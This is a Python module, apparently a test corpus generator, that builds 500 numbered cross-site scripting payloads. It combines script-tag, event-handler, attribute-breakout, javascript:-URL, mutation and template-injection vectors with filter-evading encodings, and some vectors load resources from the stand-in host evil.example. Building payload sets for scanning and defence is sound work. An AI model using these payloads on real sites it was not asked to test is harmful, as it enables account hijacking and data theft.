"""500 texts that run a script wherever one is put into a page unescaped, each with its number to be found again."""

COUNT = 500
# RUN stands for the call that shows an execution, N for the payload's number.
_VECTORS = (
    "<script>RUN</script>",
    "<script type=module>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus='RUN' x='",
    "</title><script>RUN</script>",
    "</textarea><img src=x onerror=RUN>",
    "</template></svg><img src=x onerror=RUN>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "javascript:RUN//",
    "<a href=javascript:RUN>x</a>",
    '<iframe srcdoc="<script>parent.RUN</script>">',
    "<iframe src=javascript:parent.RUN>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<details open ontoggle=RUN>",
    "<style>@import '//evil.example';*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "{{constructor.constructor('RUN')()}}${RUN}",
    "<form action=//evil.example><button autofocus onfocus=RUN>",
)


def _escape(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" if letter in "<>\"'" else letter for letter in text)


def _widen(text: str) -> str:
    return text.translate({ord("<"): "＜", ord(">"): "＞"})


def list_payloads() -> list[str]:
    """Return every vector in every disguise."""
    disguises = (
        lambda text: text,
        str.upper,
        str.swapcase,
        lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
        lambda text: text.replace("<", "&amp;lt;"),
        lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
        lambda text: text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22"),
        lambda text: text.replace("<", "%253C").replace(">", "%253E"),
        _escape,
        _widen,
        lambda text: text.replace(" ", "/"),
        lambda text: text.replace(" ", "\t"),
        lambda text: text.replace("<script", "<scr<script>ipt"),
        lambda text: "\ufeff" + text,
        lambda text: "\u202e" + text,
        lambda text: "x'\"`>" + text,
        lambda text: "\\'\\\"" + text,
        lambda text: "<!--" + text,
        lambda text: "*/;RUN;/*" + text,
        lambda text: "<![CDATA[" + text,
    )
    made = []
    for disguise in disguises:
        for vector in _VECTORS:
            number = len(made)
            made.append(f"{disguise(vector)} q{number}q".replace("RUN", f"kdxss({number})").replace("run", f"kdxss({number})"))
    assert len(set(made)) == COUNT
    return made
